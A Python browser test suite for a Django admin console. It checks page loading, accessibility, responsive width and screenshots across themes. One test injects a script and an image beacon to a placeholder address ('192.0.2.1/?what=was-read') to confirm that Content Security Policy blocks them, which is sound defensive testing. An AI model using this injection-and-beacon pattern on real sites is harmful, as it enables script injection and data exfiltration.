"""Every page of the console: it opens, pleases axe, fits the window, and is photographed."""

import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import URLPattern

from contoso import urls
from contoso.console.tests.browser.console import Console
from contoso.console.tests.browser.history import ROOT

SHOTS = Path(os.environ.get("CONSOLE_SCREENSHOTS") or ROOT / "artifacts" / "console")
WIDTHS = (390, 1440)
# A theme changes colours alone.
RULES: dict[str, tuple[str, ...]] = {"light": (), "dark": ("color-contrast",)}
MODELS = sorted(f"{m._meta.app_label}/{m._meta.model_name}" for m in admin.site._registry)
# Parts of pages, which are none.
PARTS = {"quantity-in-words/"}
QUERIES = {
    "partner/": "?account=fabrikam",
    "keys/quarantine/": "?epoch=0",
    "keys/release/": "?epoch=0",
}
OWN = [
    str(entry.pattern).removeprefix("admin/")
    for entry in urls.urlpatterns
    if isinstance(entry, URLPattern) and str(entry.pattern).startswith("admin/")
]
PAGES = ["", "password_change/", *(path for path in OWN if path not in PARTS)]
ONE = "#result_list tbody a[href*='/change/'], #content td a[href*='/change/']"
DEED = "#content a[href*='/do/']"
_SMUGGLE = """
() => {
  const script = document.createElement("script");
  script.textContent = "window.smuggled = true";
  document.body.append(script);
  const image = document.createElement("img");
  image.src = "http://192.0.2.1/?what=was-read";
  document.body.append(image);
}
"""


@pytest.fixture(scope="module")
def tab(browser, system, sessions) -> Iterator[Console]:
    """One tab of the admin, for all pages: opening it anew is what takes long."""
    opened = Console(browser.new_context(storage_state=sessions("admin")), system.address)
    yield opened
    opened.close()


@pytest.fixture
def console(tab) -> Iterator[Console]:
    """The tab; what went wrong at a page fails that page alone."""
    yield tab
    tab.leave()


def judge(console, name):
    """Photograph a page in both themes and widths; return all that is wrong with it."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    file = re.sub(r"\W+", "-", name).strip("-") or "home"
    wrong = []
    for theme, rules in RULES.items():
        console.show(theme)
        wrong += [f"{name}, {theme}: {each}" for each in console.violations(*rules)]
        for width in WIDTHS:
            console.show(theme, width)
            if excess := console.excess():
                wrong.append(f"{name}: {excess} px too wide for {width}")
            console.photograph(SHOTS / f"{file}-{width}-{theme}.png")
    return wrong


def follow(console, selector, name):
    """Judge the page that the first such link leads to, if there is one."""
    link = console.page.locator(selector).first
    if not link.count():
        return []
    assert console.go_on(str(link.get_attribute("href"))) == 200
    return judge(console, name)


@pytest.mark.parametrize("model", MODELS)
def test_a_model_s_pages(console, model):
    assert console.go(f"/admin/{model}/") == 200
    wrong = judge(console, model)
    wrong += follow(console, ONE, f"{model}/one")
    wrong += follow(console, DEED, f"{model}/deed")
    if console.go(f"/admin/{model}/add/") == 200:
        wrong += judge(console, f"{model}/add")
    assert wrong == []


@pytest.mark.parametrize("path", PAGES)
def test_a_page(console, path):
    assert console.go(f"/admin/{path}{QUERIES.get(path, '')}") == 200
    assert judge(console, path) == []


def test_a_script_that_was_smuggled_in_does_not_run(browser, system, sessions):
    console = Console(browser.new_context(storage_state=sessions("admin")), system.address)
    console.go("/admin/")
    console.page.evaluate(_SMUGGLE)
    console.page.wait_for_timeout(500)
    assert console.page.evaluate("() => window.smuggled") is None
    refused = [each for each in console.complaints if "Content Security Policy" in each]
    assert len(refused) >= 2
    console.page.context.close()


def test_no_such_page(console):
    assert console.go("/admin/nowhere/") == 404
    assert "There is no such page" in console.text()
    assert judge(console, "404") == []


def test_a_page_for_others(open_console):
    console = open_console("vera")
    assert console.go("/admin/api/client/") == 403
    assert "Your groups do not permit this" in console.text()
    assert judge(console, "403") == []


def test_the_page_to_sign_in(browser, system):
    console = Console(browser.new_context(), system.address)
    assert console.go("/admin/login/") == 200
    assert judge(console, "login") == []
    console.close()
